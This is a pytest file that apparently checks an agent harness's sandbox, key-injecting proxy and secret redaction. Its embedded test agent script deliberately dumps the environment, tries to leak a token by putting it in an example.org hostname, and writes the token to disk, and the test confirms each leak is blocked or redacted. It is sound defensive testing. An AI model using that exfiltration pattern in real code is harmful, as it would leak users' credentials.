"""A cell with a network: it reaches what its agent may reach, its key is added outside of it, and no secret is kept."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from walls import skip_without

KEY = "sk-test-0123456789abcdef"
TOKEN = "tok-another-secret-77"

AGENT = """
import json, os, pathlib, sys, urllib.error, urllib.request
seen = dict(os.environ)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
with opener.open(os.environ["API_URL"] + "/v1/answer") as reply:
    print(reply.read().decode())
try:
    urllib.request.urlopen("http://" + os.environ["MY_TOKEN"] + ".example.org/")
except urllib.error.HTTPError as error:
    print("elsewhere", error.code, file=sys.stderr)
print("ENV", json.dumps(seen), file=sys.stderr)
pathlib.Path(sys.argv[1], "left.txt").write_text("my token is " + os.environ["MY_TOKEN"])
print("token", os.environ["MY_TOKEN"], file=sys.stderr)
"""


class Upstream(BaseHTTPRequestHandler):
    heard: list[tuple[str, str | None]]

    def do_GET(self):
        self.heard.append((self.path, self.headers.get("authorization")))
        body = json.dumps(["a.py::one", "b.py::two", "b.py::three"]).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@pytest.fixture
def upstream():
    Upstream.heard = []
    with ThreadingHTTPServer(("127.0.0.1", 0), Upstream) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.mark.parametrize(
    "options",
    [pytest.param((), id="bwrap", marks=skip_without("bwrap")), pytest.param(("--no-sandbox",), id="none")],
)
def test_a_key_is_added_on_the_way_out_and_nothing_that_is_kept_holds_a_secret(bench, upstream, options):
    bench.write(agent="caller.py", source=AGENT, reps=1)
    suite = bench.suite_dir / "suite.toml"
    injected = (
        f'env = ["MY_TOKEN"]\n\n[agents.script.inject.API_URL]\nupstream = "http://127.0.0.1:{upstream.server_port}"\n'
        'secret = "API_KEY"\nprefix = "Bearer "\n\n'
    )
    text = suite.read_text().replace("[caps]", f"{injected}[caps]")
    suite.write_text(text[: text.index("[[questions]]", text.index("[[questions]]") + 1)])
    bench("run", "tiny", "--run-id", "r", "--no-page", *options, API_KEY=KEY, MY_TOKEN=TOKEN)
    assert Upstream.heard == [("/v1/answer", f"Bearer {KEY}")]
    (attempt,) = bench.query(
        "select outcome, network_refused, redactions, changed_files from attempts join cells using (run, cell, outcome)"
    )
    assert (attempt["outcome"], attempt["network_refused"], attempt["changed_files"]) == ("ok", 1, 1)
    taken_out = json.loads(attempt["redactions"])
    assert set(taken_out) == {"MY_TOKEN"}
    assert taken_out["MY_TOKEN"] >= 4, "in its environment, its own words, its tree and its network log"
    kept = {row["stream"]: row["text"] for row in bench.query("select stream, text from transcripts")}
    assert "elsewhere 403" in kept["stderr"]
    (seen,) = [json.loads(line[4:]) for line in kept["stderr"].splitlines() if line.startswith("ENV ")]
    assert seen["API_KEY"] == "held-by-the-proxy"
    network = [json.loads(line) for line in kept["network"].splitlines()]
    assert [(each["host"], each["verdict"]) for each in network] == [
        ("127.0.0.1", "injected"),
        ("[redacted:MY_TOKEN].example.org", "refused"),
    ]
    assert "[redacted:MY_TOKEN]" in kept["diff"]
    for path in (bench.root / "data" / "runs").rglob("*"):
        if path.is_file():
            assert not any(secret.encode() in path.read_bytes() for secret in (KEY, TOKEN)), path
    assert not any(secret in text for secret in (KEY, TOKEN) for text in kept.values())
